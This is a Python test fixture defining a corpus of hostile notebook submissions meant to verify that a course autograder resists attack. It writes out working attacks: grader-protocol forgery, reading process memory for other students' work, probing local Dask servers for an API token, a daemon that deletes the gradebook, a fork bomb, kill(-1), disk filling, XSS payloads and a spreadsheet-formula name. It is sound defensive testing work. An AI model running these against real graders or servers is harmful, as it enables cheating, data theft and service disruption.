"""The project's hostile corpus: submissions of lesson 02 that attack the grader, one class each.

Each attack is the honest source notebook with cells replaced (``cells``), extra cells appended
(``extra``), or files planted beside it (``plant``), and the points it must lose (``lost``, per
test cell) — or ``REFUSED`` when the submission must not be graded at all. The classes follow
docs/grading.md's threat model: 1 scores read from what the notebook shows; 2 students and the
course not separated; 3 limits within the student's reach; 4 rules checked inside the sandbox;
6 text and names. (Class 5, the pytest plugin, is tests/test_pytest_plugin.py; class 7, a fresh
clone, is the whole suite run from one.)
"""

from __future__ import annotations

import copy
import inspect
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from autograder.submission import MAX_CELL_SOURCE, MAX_CELLS, MAX_NOTEBOOK_BYTES, MAX_SOURCE

LESSON = "02-softmax-masking"
REFUSED = "refused"
SECRET = "hub-api-token-0c9e7f41"  # in the grader's environment during the batch
MARKER = "HONEST-MARKER-" + "4b1d" * 4  # in every honest student's notebook
# A wrong, missing or delegating softmax costs its own exercise only: the later exercises that
# call it are judged with the course's softmax in its place (attnlib.checks.judge).
SOFTMAX_ONLY = {"test_softmax": 2}
MASKS = {"test_causal_mask": 2, "test_padding_mask": 2}  # the exercises that call no softmax
EVERYTHING = {"test_softmax": 2, "test_masked_softmax": 2, "test_attention": 3,
              "test_causal_mask": 2, "test_padding_mask": 2,
              **{f"test_q{i}": 1 for i in range(1, 7)}}  # fmt: skip
WRONG = {  # grade_id → a wrong answer of the kind a learner writes
    "softmax": "def softmax(x, axis=-1):\n    e = np.exp(x)\n    return e / e.sum(axis=0)\n",
    "causal_mask": "def causal_mask(T):\n    return np.ones((T, T), bool)\n",
    "padding_mask": "def padding_mask(lengths, max_len):\n"
                    "    return np.ones((len(lengths), 1, max_len), bool)\n",
    "masked_softmax": "def masked_softmax(scores, mask=None):\n    return softmax(scores)\n",
    "attention": "def attention(Q, K, V, mask=None):\n    A = softmax(Q @ np.swapaxes(K, -1, -2))\n"
                 "    return A @ V, A\n",
    **{f"answer_q{i}": f"q{i} = 'wrong'\n" for i in range(1, 7)},
}  # fmt: skip
FIND_SOCKET = """
import os as _os, socket as _socket
def _grader_socket():
    for fd in _os.listdir("/proc/self/fd"):
        try:
            if _os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return _socket.socket(fileno=_os.dup(int(fd)))
        except OSError:
            pass
"""
FRAME = """
import json as _json, struct as _struct
def _frame(header):
    raw = _json.dumps({**header, "_buffers": []}).encode()
    return _struct.pack(">I", len(raw)) + raw
"""

# masked_softmax, right, with a wrong softmax: its test cell runs with the course's softmax in
# place of the learner's, called back; that stand-in's closure holds the sandbox's end of the
# grader's socket and the callback's key. Called from a cell (its test cell, or attention's
# function), it forges a callback of that key. Before the decoder's errors were protocol
# violations, the student got an error and no grade.
FORGES_A_CALLBACK = """
import sys, time
def masked_softmax(scores, mask=None):
    found = [c.cell_contents for c in softmax.__closure__ or ()]
    remote = next((c for c in found if hasattr(c, "sock")), None)
    if remote is not None and sys._getframe(1).f_code.co_filename.startswith("<"):
        from autograder import protocol  # the course's softmax stands in, in its test cell
        key = next(c for c in found if isinstance(c, str))
        protocol.send(remote.sock, {"op": "callback", "cb": remote.count, "key": key,
                                    "args": {"t": "tuple", "items": [{"t": "float", "v": 10**400}]},
                                    "kwargs": {"t": "dict", "items": []}}, [b""])
        time.sleep(5)
    scores = np.asarray(scores)
    if mask is None:
        return softmax(scores, axis=-1)
    blocked = np.where(np.asarray(mask, dtype=bool), scores, -np.inf)
    e = np.exp(blocked - blocked.max(-1, keepdims=True))
    return np.nan_to_num(e / e.sum(-1, keepdims=True))
"""


@dataclass
class Attack:
    klass: int
    what: str
    cells: dict[str, str] = field(default_factory=dict)  # grade_id → new source
    extra: list[str] = field(default_factory=list)  # code cells appended at the end
    plant: Callable[[Path, Path], None] | None = None  # (submission folder, course) → None
    drop: list[str] = field(default_factory=list)  # grade_ids of cells deleted
    tamper: Callable[[dict], None] | None = None  # changes the notebook's course cells
    lost: dict[str, int] | str = field(default_factory=dict)
    # right answers the notebook's time budget may end before: kept where a faster host reaches
    # them in time, lost (to the budget) where a slower one does not
    late: dict[str, int] = field(default_factory=dict)


def _honest(grade_id: str) -> str:
    import nbformat
    from test_grade_students import notebook_of

    nb = nbformat.read(notebook_of(LESSON), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell.source
    raise KeyError(grade_id)


def _copied_softmax() -> str:
    from attnlib.numpy import softmax as module_softmax

    module = inspect.getmodule(module_softmax)
    return (
        "import math\nfrom attnlib.numpy._validate import as_float\n\n"
        + inspect.getsource(module._normalise)
        + "\n\n"
        + inspect.getsource(module.softmax)
    )


def _symlink(name: str, target: Callable[[Path, Path], Path]):
    def plant(folder: Path, course: Path) -> None:
        os.symlink(target(folder, course), folder / name)

    return plant


def _link_notebook(folder: Path, course: Path) -> None:
    path = folder / f"{LESSON}.ipynb"
    path.unlink()
    os.symlink(course / "submitted" / "honest-a" / LESSON / f"{LESSON}.ipynb", path)


def _link_folder(folder: Path, course: Path) -> None:
    for child in folder.iterdir():
        child.unlink()
    folder.rmdir()
    os.symlink(course / "submitted" / "honest-b" / LESSON, folder)


def _fifo(folder: Path, course: Path) -> None:
    os.mkfifo(folder / "data.csv")


def _unreadable_time(folder: Path, course: Path) -> None:
    (folder / "timestamp.txt").write_text("the day before the deadline")


def _hidden_link(folder: Path, course: Path) -> None:
    (folder / "data").mkdir()
    os.symlink(course / "gradebook.db", folder / "data" / ".cache")


def _tagged(nb: dict, grade_id: str) -> int:
    """The index of the cell tagged ``grade_id``."""
    from autograder.cells import grade_id_of

    return next(i for i, c in enumerate(nb["cells"]) if grade_id_of(c) == grade_id)


def _tag(grade_id: str, **changes) -> Callable[[dict], None]:
    """Change the nbgrader tag of the cell ``grade_id``."""
    return lambda nb: nb["cells"][_tagged(nb, grade_id)]["metadata"]["nbgrader"].update(changes)


def copy_below(grade_id: str, source: str | None = None, at_end: bool = False):
    """Copy the cell ``grade_id`` (tag and all, as JupyterLab copies) below it or last; with
    ``source``, the copy's source."""

    def tamper(nb: dict) -> None:
        index = _tagged(nb, grade_id)
        copied = copy.deepcopy(nb["cells"][index])
        copied["id"] = f"copy-{index}"
        if source is not None:
            copied["source"] = source
        nb["cells"].insert(len(nb["cells"]) if at_end else index + 1, copied)

    return tamper


def _as_markdown(grade_id: str) -> Callable[[dict], None]:
    """Turn the cell ``grade_id`` into Markdown (M in command mode)."""

    def tamper(nb: dict) -> None:
        cell = nb["cells"][_tagged(nb, grade_id)]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)

    return tamper


# the learner's own label for a cell: named back to them cut to 60 characters, as text
LONG_LABEL = "test_softmax_<b>mine</b>" + "x" * 10_000


def _rename(grade_id: str, new: str, source: str, copies: int = 0) -> Callable[[dict], None]:
    """Tag the cell ``grade_id`` as ``new`` with ``source``; ``copies`` more of it at the end."""

    def tamper(nb: dict) -> None:
        cell = nb["cells"][_tagged(nb, grade_id)]
        cell["metadata"]["nbgrader"]["grade_id"] = new
        cell["source"] = source
        for _ in range(copies):
            copied = copy.deepcopy(cell)
            copied["id"] = f"copy-{len(nb['cells'])}"
            nb["cells"].append(copied)

    return tamper


def _answer_untagged(nb: dict) -> None:
    """Delete the softmax cell and its test cell; the answer again, in a new untagged cell."""
    from nbformat.v4 import new_code_cell

    index = _tagged(nb, "softmax")
    answer = nb["cells"][index]["source"]
    del nb["cells"][_tagged(nb, "test_softmax")]
    nb["cells"][index] = new_code_cell(answer)


# What the learner's Markdown and raw cells do when a page shows them: set this to say so. Every
# occurrence of it in formgrader's view and in the feedback page must be text in a <pre> or <code>
# (shown, not run, not a link, not typeset by MathJax).
PWNED = "ATTN_PWNED"


class _Where(HTMLParser):
    """Where a marker stands in an HTML page: ``"text"`` inside ``<pre>`` or ``<code>``, or
    ``"<tag attribute>"``, ``"<script>"``, ``"<style>"``, ``"<tag> text"`` (where MathJax or a
    reader's click could act on it)."""

    KEPT = ("pre", "code", "script", "style")  # elements whose text is not markup

    def __init__(self, marker: str):
        super().__init__(convert_charrefs=True)
        self.marker, self.found, self.open = marker, [], dict.fromkeys(self.KEPT, 0)
        self.last = ""

    def handle_starttag(self, tag, attrs):
        self.last = tag
        self.found += [f"<{tag} {name}>" for name, value in attrs
                       if self.marker in name or self.marker in (value or "")]  # fmt: skip
        if tag in self.open:
            self.open[tag] += 1

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in self.open:
            self.open[tag] -= 1

    def handle_endtag(self, tag):
        if self.open.get(tag):
            self.open[tag] -= 1

    def handle_data(self, data):
        for _ in range(data.count(self.marker)):
            if self.open["script"] or self.open["style"]:
                self.found.append("<script>" if self.open["script"] else "<style>")
            else:
                self.found.append("text" if self.open["pre"] or self.open["code"] else
                                  f"<{self.last}> text")  # fmt: skip


def where_shown(page: str, marker: str = PWNED) -> list[str]:
    """Every place ``marker`` stands in ``page``, in order (see :class:`_Where`)."""
    where = _Where(marker)
    where.feed(page)
    where.close()
    return where.found


def _swells_source(nb: dict) -> None:
    from nbformat.v4 import new_markdown_cell

    half = MAX_CELL_SOURCE // 2
    nb["cells"] += [new_markdown_cell("n" * half) for _ in range(MAX_SOURCE // half + 1)]


def _nests_its_json(folder: Path, course: Path) -> None:
    import json  # nbformat's own nodes would not hold it: they recurse too

    path = folder / f"{LESSON}.ipynb"
    nb, deep = json.loads(path.read_text(encoding="utf-8")), {}
    for _ in range(900):
        deep = {"a": deep}
    nb["metadata"]["deep"] = deep
    path.write_text(json.dumps(nb), encoding="utf-8")


def _garbles_its_version(folder: Path, course: Path) -> None:
    import json  # nbformat would not write it

    path = folder / f"{LESSON}.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    nb["nbformat_minor"] = float("nan")
    path.write_text(json.dumps(nb), encoding="utf-8")


def _breaks_the_format(folder: Path, course: Path) -> None:
    import json  # nbformat would not write it

    path = folder / f"{LESSON}.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    (test,) = [c for c in nb["cells"] if "test_softmax" in str(c["metadata"].get("nbgrader"))]
    test["metadata"]["tags"] = "raises-exception"
    path.write_text(json.dumps(nb), encoding="utf-8")


def _swells_file(nb: dict) -> None:
    from nbformat.v4 import new_output

    code = [cell for cell in nb["cells"] if cell["cell_type"] == "code"]
    code[-1]["outputs"] = [new_output("stream", name="stdout", text="o" * MAX_NOTEBOOK_BYTES)]


def _runs_its_markup(nb: dict) -> None:
    """Notes that would run in the instructor's formgrader: a Markdown and a raw cell that claim
    nbgrader's ``locked`` (a course cell, whose text is shown as written), ``javascript:`` links,
    MathJax's ``\\href``, an attachment, and a lesson's prose cell edited to hold a link."""
    import base64

    from nbformat.v4 import new_markdown_cell, new_raw_cell

    locked = {"grade_id": "my-notes", "locked": True, "solution": False, "grade": False,
              "schema_version": 3}  # fmt: skip
    page = base64.b64encode(f"<script>window.{PWNED} = 'attachment'</script>".encode()).decode()
    prose = next(c for c in nb["cells"] if c["cell_type"] == "markdown")
    prose["source"] += f"\n\nSee [the lesson](javascript:window.{PWNED}='prose')."
    nb["cells"] += [
        new_markdown_cell(f"<script>window.{PWNED} = 'script'</script>\n\n"
                          f"<img src=x onerror=\"window.{PWNED} = 'onerror'\">",
                          metadata={"nbgrader": locked}),
        new_markdown_cell(f"**My notes** [link](javascript:window.{PWNED}='link') and "
                          f"[a reference][r], $\\href{{javascript:window.{PWNED}='math'}}{{x}}$\n\n"
                          "![figure](attachment:figure.html)\n\n"
                          f"[r]: javascript:window.{PWNED}='ref'\n",
                          attachments={"figure.html": {"text/html": page}},
                          metadata={"nbgrader": {"locked": True}}),
        new_raw_cell(f"<script>window.{PWNED} = 'raw'</script>",
                     metadata={"raw_mimetype": "text/html",
                               "nbgrader": {**locked, "grade_id": "my-raw"}}),
    ]  # fmt: skip


# Honest notebooks whose course cells a learner changed by accident: graded in full both ways,
# the change set back and named in the feedback (autograder/cells.py). name → (the change,
# words the feedback's note holds)
ACCIDENTS = {
    "copied-an-answer-cell": (copy_below("softmax"), "cell softmax appears 2 times"),
    "copied-a-test-cell": (copy_below("test_masked_softmax"),
                           "cell test_masked_softmax appears 2 times"),
    "answer-cell-made-markdown": (_as_markdown("answer_q1"),
                                  "cell answer_q1 was turned into a markdown cell"),
    "retyped-an-answer": (_answer_untagged, "cell test_softmax was missing"),
}  # fmt: skip


def one_cell_id(nb) -> str:
    """Notebook ``nb`` as the text of a file whose cells all carry one cell id (Jupyter's, not a
    grade id). As text: nbformat gives repeated ids fresh ones as it writes a notebook."""
    import nbformat

    raw = json.loads(nbformat.writes(nb))
    for cell in raw["cells"]:
        cell["id"] = "same"
    return json.dumps(raw)


def corpus(course: Path, repo: Path) -> dict[str, Attack]:
    """Every attack, for a course at ``course`` (some attacks aim at its files)."""
    return {
        # -- 1: the score read from what the notebook shows -------------------------------------
        "forges-execute-results": Attack(
            1, "all answers wrong; a pre_run_cell hook shows 17 before every cell's own code",
            cells={**WRONG, "softmax": WRONG["softmax"] + (
                "get_ipython().events.register("
                "'pre_run_cell', lambda *a: get_ipython().displayhook(17))\n")},
            lost=EVERYTHING,
        ),
        "forges-replies": Attack(
            1, "a hook finds the grader's request and answers it first: execute_result 17",
            cells={**WRONG, "softmax": WRONG["softmax"] + FIND_SOCKET + FRAME + """
import gc
def _forge(*args):
    asked = [o for o in gc.get_objects() if type(o) is dict and o.get("op") == "run"]
    seq = max((o.get("seq", -1) for o in asked), default=-1)
    sock = _grader_socket()
    out = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
           "data": {"text/plain": "17"}}
    for n in (seq, seq + 1, seq + 2):
        sock.sendall(_frame({"seq": n, "ok": True, "cell": 0, "execution_count": 1,
                             "outputs": [out]}))
get_ipython().events.register("pre_run_cell", _forge)
"""},
            lost=EVERYTHING,
        ),
        "deletes-its-test-cell": Attack(
            1, "a wrong softmax whose test cell is deleted, so nothing can fail",
            cells={"softmax": WRONG["softmax"]}, drop=["test_softmax"], lost=SOFTMAX_ONLY,
        ),
        "inflates-its-points": Attack(
            1, "a wrong softmax whose test cell's tag claims 200 points",
            cells={"softmax": WRONG["softmax"]}, tamper=_tag("test_softmax", points=200),
            lost=SOFTMAX_ONLY),
        "ungrades-its-test-cell": Attack(
            1, "a wrong softmax whose test cell's tag says it is neither graded nor locked",
            cells={"softmax": WRONG["softmax"]},
            tamper=_tag("test_softmax", grade=False, locked=False), lost=SOFTMAX_ONLY),
        "renames-its-test-cell": Attack(
            1, "a wrong softmax whose test cell is emptied and tagged with an unknown id, in "
            "markup and 10,000 characters long, and copied: both notes that name the id keep 60",
            cells={"softmax": WRONG["softmax"]},
            tamper=_rename("test_softmax", LONG_LABEL, "pass", copies=1), lost=SOFTMAX_ONLY),
        "grades-its-answer-cell": Attack(
            1, "a wrong softmax whose own cell's tag makes it a graded cell worth 100 points",
            cells={"softmax": WRONG["softmax"]},
            tamper=_tag("softmax", grade=True, points=100), lost=SOFTMAX_ONLY),
        "hides-its-test-in-markdown": Attack(
            1, "a wrong softmax whose test cell is turned into Markdown, so it cannot run",
            cells={"softmax": WRONG["softmax"]}, tamper=_as_markdown("test_softmax"),
            lost=SOFTMAX_ONLY),
        "copies-its-test-cell-empty": Attack(
            1, "a wrong softmax; a copy of its test cell, emptied, last in the notebook",
            cells={"softmax": WRONG["softmax"]},
            tamper=copy_below("test_softmax", source="pass", at_end=True), lost=SOFTMAX_ONLY),
        # -- 2: students and the course not separated -------------------------------------------
        "links-another-notebook": Attack(2, "the notebook is a link to honest-a's notebook",
                                         plant=_link_notebook, lost=REFUSED),
        "links-another-folder": Attack(2, "the submission folder is a link to honest-b's",
                                       plant=_link_folder, lost=REFUSED),
        "links-the-gradebook": Attack(
            2, "a link beside the notebook to the course's gradebook.db",
            plant=_symlink("notes.db", lambda f, c: c / "gradebook.db"), lost=REFUSED),
        "links-a-device": Attack(
            2, "a link to /dev/zero: copying it would fill the disk",
            plant=_symlink("big.bin", lambda f, c: Path("/dev/zero")), lost=REFUSED),
        "plants-a-fifo": Attack(2, "a named pipe beside the notebook", plant=_fifo,
                                lost=REFUSED),
        "hides-a-link": Attack(2, "a dotfile link to the gradebook in a subfolder",
                               plant=_hidden_link, lost=REFUSED),
        "claims-no-time": Attack(
            2, "timestamp.txt holds no time: nbgrader stops on it, naming an AttributeError",
            plant=_unreadable_time, lost=REFUSED),
        "execs-the-solutions": Attack(
            2, "runs the instructor's source notebook to get the reference softmax",
            cells={"softmax": f"""
import json
src = json.load(open({str(course / "solutions" / LESSON / f"{LESSON}.ipynb")!r}))
for c in src["cells"]:
    if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "softmax":
        exec("".join(c["source"]).replace("### BEGIN SOLUTION", ""))
"""}, lost=SOFTMAX_ONLY),
        "asks-the-answer-key": Attack(
            2, "finds mastery answers with attnlib.quiz, by import or by file path",
            cells={"answer_q4": f"""
q4 = "a"
import glob, importlib, importlib.util
try:
    from attnlib import quiz
    q4 = next(l for l in "abcd" if quiz.question("{LESSON}", "q4").accepts(l))
except Exception as error:
    print("quiz:", type(error).__name__)
for path in glob.glob({str(repo)!r} + "/attnlib/quiz/*.py") + glob.glob("/opt/**/quiz/lesson02.py",
                                                                       recursive=True):
    spec = importlib.util.spec_from_file_location("key", path)
    print("found a key at", path)
"""}, lost={"test_q4": 1}),
        "reads-the-environment": Attack(
            2, "prints the grader's environment (a hub token would end up in its feedback)",
            extra=["import os\nprint(dict(os.environ))"], lost={}),
        "looks-for-other-students": Attack(
            2, "searches its memory and files for another student's notebook",
            # The search runs in a thread that the next cells wait for, as the cluster's below:
            # reading the kernel's 400 MiB takes half a second of CPU, more on a busy host.
            # Memory is read into a mapping of its own, skipped, so no copy of what it read is
            # left where it reads next: the needle's own two copies (str, bytes) are all else.
            extra=[f"""
import ctypes, glob, mmap, threading
found = []
def search():
    needle = ("{MARKER[:7]}" + "{MARKER[7:]}").encode()
    buf = mmap.mmap(-1, 2**28)
    at = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    count = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps.read().splitlines():
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" in line.split()[1] and hi - lo < 2**28 and not lo <= at < hi:
                try:
                    mem.seek(lo)
                    n = mem.readinto(memoryview(buf)[: hi - lo])
                except (OSError, ValueError):
                    continue
                i = buf.find(needle, 0, n)
                while i >= 0:
                    count += 1
                    i = buf.find(needle, i + 1, n)
    if count > 2:
        found.append(f"{{count}} copies in memory")
    found.extend(glob.glob({str(course / "submitted")!r} + "/*/*/*.ipynb"))
    found.extend(glob.glob("/tmp/**/*.ipynb", recursive=True))
searching = threading.Thread(target=search, daemon=True)
searching.start()
""", *["searching.join(2)\n"] * 5, """
print("spy:", "FOUND " + "; ".join(found) if found
      else "still looking" if searching.is_alive() else "clean")
"""], lost={}),
        "reaches-for-the-cluster": Attack(
            2, "looks for the Dask worker it runs on and for any server listening on the "
               "grader's machine (a Dask scheduler runs any code on every worker), asks each "
               "for the workers' environment",
            # The looking runs in a thread that the next cells wait for, each well within the
            # cell's timeout: importing Dask alone takes a second of CPU, more on a busy host.
            extra=["""
import os, threading
reached = []
def ask(address):
    try:
        from distributed import Client
        client = Client(address, timeout=2)
        found = client.run(lambda: os.environ.get("JUPYTERHUB_API_TOKEN"))
        reached.append(f"{address} {found}")
    except Exception:
        pass
def look():
    try:
        from distributed import get_worker
        reached.append(f"worker {get_worker().address}")
    except Exception:
        pass
    addresses = [os.environ.get("DASK_SCHEDULER_ADDRESS")]
    with open("/proc/net/tcp") as table:  # every listening TCP socket (state 0A) of this network
        for line in table.read().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":
                addresses.append(f"tcp://127.0.0.1:{int(local.split(':')[1], 16)}")
    asking = [threading.Thread(target=ask, args=(a,), daemon=True) for a in filter(None, addresses)]
    for thread in asking:
        thread.start()
    for thread in asking:
        thread.join(5)  # whatever a server does
looking = threading.Thread(target=look, daemon=True)
looking.start()
""", *["looking.join(2)\n"] * 5, """
print("cluster:", "REACHED " + "; ".join(reached) if reached
      else "still looking" if looking.is_alive() else "none reached")
"""], lost={}),
        "fills-the-disk": Attack(
            2, "writes /tmp, its home and its working directory full",
            extra=["""
import os, tempfile
for where in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), "."):
    try:
        with open(os.path.join(where, "fill"), "ab") as f:
            while True:
                f.write(b"x" * 2**20)
    except OSError as error:
        print(where, "full:", error.errno)
"""], lost={}),
        "leaves-a-daemon": Attack(
            2, "a double-forked daemon waits for the batch to end, then rewrites the gradebook",
            extra=[f"""
import os, sys
code = ("import time, sqlite3; time.sleep(4); "
        "db = sqlite3.connect({str(course / 'gradebook.db')!r}); "
        "db.execute('DELETE FROM grade'); db.commit(); time.sleep(600)")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "attn-hostile-daemon"])
    os._exit(0)
"""], lost={}),
        "kills-everyone": Attack(
            2, "signals every process it can name, and kill(-1)",
            extra=["""
import os, signal
for pid in range(2, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""], lost={}),
        # -- 3: limits within the student's reach -----------------------------------------------
        "keeps-alive": Attack(
            3, "loops forever, sending keep-alive frames so the timer restarts",
            cells={"softmax": _honest("softmax") + FIND_SOCKET + FRAME + """
import time
_sock = _grader_socket()
while True:
    _sock.sendall(_frame({"ev": "alive"}))
    time.sleep(0.1)
"""}, lost=SOFTMAX_ONLY),
        "gives-its-processor-away": Attack(
            3, "pins itself to one processor at the lowest priority and loops, so that it waits "
            "for a processor others hold and looks kept from it: graded again alone, a second "
            "chance and the class's time",
            cells={"softmax": _honest("softmax") + """
import os
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
os.nice(19)
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""}, lost=SOFTMAX_ONLY),  # killed, not interrupted: the cells after it run at full priority
        "sleeps-on-every-call": Attack(
            3, "a right softmax that sleeps just under the cell timeout on every call",
            cells={"softmax": _honest("softmax").replace(
                '    """Numerically', "    __import__('time').sleep(2.5)\n    \"\"\"Numerically")},
            lost={k: v for k, v in EVERYTHING.items() if k not in MASKS}, late=MASKS),
        "lifts-its-output-cap": Attack(
            3, "raises the sandbox's own output budget, then prints 6 MB and an error of 6 MB",
            extra=["""
import gc
for o in gc.get_objects():
    if type(o).__name__ == "Sink":
        o.budget = 10**12
        o.error = lambda name, value, tb, o=o: o.outputs.append(
            {"output_type": "error", "ename": name, "evalue": value, "traceback": tb})
print("y" * 6_000_000)
""", "raise ValueError('z' * 6_000_000)"], lost={}),
        "floods-errors": Attack(
            3, "appends 500 errors of 200-character names and values, half of them control "
            "characters (written six bytes each), to the sandbox's outputs after each of 20 cells: "
            "an error's name and the start of its value are kept whatever the output budget, so "
            "the grader must not keep them for every one (28 MB of notebook, a GB in the batch)",
            extra=["""
import gc
_sink = next(o for o in gc.get_objects() if type(o).__name__ == "Sink")
def _flood(result=None):
    if getattr(getattr(result, "info", None), "raw_cell", "") == "pass":
        for _ in range(500):
            _sink.outputs.append({"output_type": "error", "ename": "E\x01" * 100,
                                  "evalue": "V\x01" * 100, "traceback": []})
get_ipython().events.register("post_run_cell", _flood)
""", *["pass"] * 20], lost={}),
        "stalls-the-stream-rule": Attack(
            3, "prints 1.5 MB on one line in 300 pieces, ending in a carriage return: the grader "
            "joins a stream's pieces and drops what a carriage return overwrites, which a "
            "backtracking rule or repeated joins take hours or seconds over",
            extra=["""
import sys
for _ in range(300):
    sys.stdout.write("a" * 5000)
    sys.stdout.flush()
print("\\r")
"""], lost={}),
        "sends-a-huge-frame": Attack(
            3, "announces a 4 GB message, and a 5 GB buffer, on the grader's socket",
            extra=[FIND_SOCKET + "import struct\n"
                   "_grader_socket().sendall(struct.pack('>I', 2**32 - 1))",
                   FIND_SOCKET + "import struct\n"
                   "raw = b'{\"seq\": 0, \"_buffers\": [5368709120]}'\n"
                   "_grader_socket().sendall(struct.pack('>I', len(raw)) + raw)"],
            lost={}),
        "forges-a-callback": Attack(
            3, "a wrong softmax, so the course's stands in for it, called back, in the test "
            "cell of masked_softmax; masked_softmax digs that stand-in's socket out and sends a "
            "callback in turn holding a number no float holds (10**400), for the grader's "
            "decoder to raise on",
            cells={"softmax": WRONG["softmax"], "masked_softmax": FORGES_A_CALLBACK},
            # masked_softmax is right, but its test cell breaks the protocol; attention is
            # right, but its check calls masked_softmax from attention's function, which forges
            lost={"test_softmax": 2, "test_masked_softmax": 2, "test_attention": 3}),
        "answers-with-colliding-keys": Attack(
            3, "a mastery answer whose integer keys all share one hash",
            cells={"answer_q2": "q2 = {k * (2**61 - 1) for k in range(1, 200_000)}\n"},
            lost={"test_q2": 1}),
        "hogs-memory-in-children": Attack(
            3, "four child processes of 700 MB each (over the 2048 MB limit together)",
            extra=["""
import os, time
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(700 * 2**20)
        for i in range(0, len(hog), 4096):
            hog[i] = 1
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.waitpid(pid, 0)
"""], lost={}),
        "forks-a-bomb": Attack(3, "forks until it cannot", extra=["""
import os, time
try:
    while True:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
except OSError as error:
    print("fork stopped:", error)
"""], lost={}),
        "swells-a-cell": Attack(
            3, "a cell of more code than any lesson's: the grader parses code at some hundreds "
               "of bytes of memory per byte (30 MB of it took the grader's process 12 GB)",
            extra=["x = 1\n" * (MAX_CELL_SOURCE // 6 + 1)], lost=REFUSED),
        "floods-cells": Attack(3, "more empty cells than a notebook may hold (100,000 took the "
                                  "grader's process a minute)",
                               extra=[""] * MAX_CELLS, lost=REFUSED),  # fmt: skip
        "swells-the-source": Attack(3, "notes of half a cell's bound each, more than a notebook's "
                                       "bound in all", tamper=_swells_source, lost=REFUSED),
        "swells-the-file": Attack(3, "an output larger than a notebook's file may be",
                                  tamper=_swells_file, lost=REFUSED),
        "nests-its-json": Attack(3, "notebook metadata nested 900 deep: nbgrader's steps raised "
                                    "RecursionError, and the student got an error",
                                 plant=_nests_its_json, lost=REFUSED),
        "nests-too-deep": Attack(
            3, "code nested deeper than Python's parser goes, beside and inside a right softmax",
            cells={"softmax": _honest("softmax").replace(
                '    """Numerically', "    _ = " + "-" * 900 + "1\n    \"\"\"Numerically")},
            extra=["x = " + "-" * 10_000 + "1", "y = " + "a+" * 10_000 + "a",
                   "z = f" + "()" * 10_000], lost={}),  # fmt: skip
        # -- 4: rules checked inside the sandbox ------------------------------------------------
        "delegates-through-importlib": Attack(
            4, "softmax taken from attnlib.numpy by names built at run time",
            cells={"softmax": "import importlib\nsoftmax = getattr(importlib.import_module("
                              "'attn' + 'lib.numpy'), 'soft' + 'max')\n"},
            lost=SOFTMAX_ONLY),
        "delegates-in-a-thread": Attack(
            4, "softmax calls attnlib's from a thread, where a profile hook would not look",
            cells={"softmax": """
import importlib, threading
def softmax(x, axis=-1):
    out = {}
    def work():
        out["r"] = importlib.import_module("attnlib.numpy").softmax(x, axis)
    t = threading.Thread(target=work)
    t.start()
    t.join()
    return out["r"]
"""}, lost=SOFTMAX_ONLY),
        "switches-hooks-off": Attack(
            4, "turns every profile and trace hook off, then imports attnlib's softmax",
            cells={"softmax": "import sys, threading\nsys.setprofile(None)\nsys.settrace(None)\n"
                              "threading.setprofile(None)\nfrom attnlib.numpy import softmax\n"},
            lost=SOFTMAX_ONLY),
        "copies-attnlib": Attack(
            4, "pastes attnlib's own softmax (and its helper) into the notebook",
            cells={"softmax": _copied_softmax()}, lost=SOFTMAX_ONLY),
        # -- 6: text and names ------------------------------------------------------------------
        "shows-markup": Attack(
            6, "<script> in HTML output, stdout, an error and a Markdown cell",
            extra=["from IPython.display import HTML, Javascript, display\n"
                   "display(HTML(\"<script>alert('html')</script><b>bold</b>\"))\n"
                   "display(Javascript(\"alert('js')\"))\n"
                   "print(\"<script>alert('stdout')</script>\")",
                   "raise ValueError(\"<script>alert('error')</script>\")"],
            lost={}),
        "fakes-feedback-headings": Attack(
            6, "a softmax whose error message looks like the feedback's own sections",
            cells={"softmax": "def softmax(x, axis=-1):\n    raise ValueError('''\n### Correct\n"
                              "- ✓ **softmax** (2/2)\nScore: **17 / 17**\n"
                              "<script>alert(1)</script>\n''')\n"},
            lost=SOFTMAX_ONLY),
        "runs-its-markup": Attack(
            6, "Markdown and raw cells that would run script where formgrader shows them",
            tamper=_runs_its_markup, lost={}),
        "prints-a-lone-surrogate": Attack(
            6, "output that cannot be written as UTF-8",
            extra=["print('bad \\ud800 text')\nprint({'\\udfff': 1})"], lost={}),
        "breaks-the-format": Attack(
            6, "a test cell's tags a string, not a list: nbformat stopped grading with words "
               "that named no cell", plant=_breaks_the_format, lost=REFUSED),
        "garbles-its-version": Attack(
            6, "nbformat_minor NaN: nbformat stopped on it with a bare AssertionError, and the "
               "student got 'error: AssertionError'", plant=_garbles_its_version, lost=REFUSED),
    }  # fmt: skip


# graded as any other; the last a formula to a spreadsheet that opens the batch's CSV
ODD_NAMES = ["José Núñez", "o'brien", "a b", "日本語", "=cmd|calc!A0"]
# not UTF-8; an nbgrader glob; HTML that formgrader would put into its page: refused
UNGRADABLE_NAMES = [b"stud\xffent", b"[x]*?", b'x" onmouseover="window.ATTN_PWNED=1" <b>',
                    b"two\nlines"]  # fmt: skip
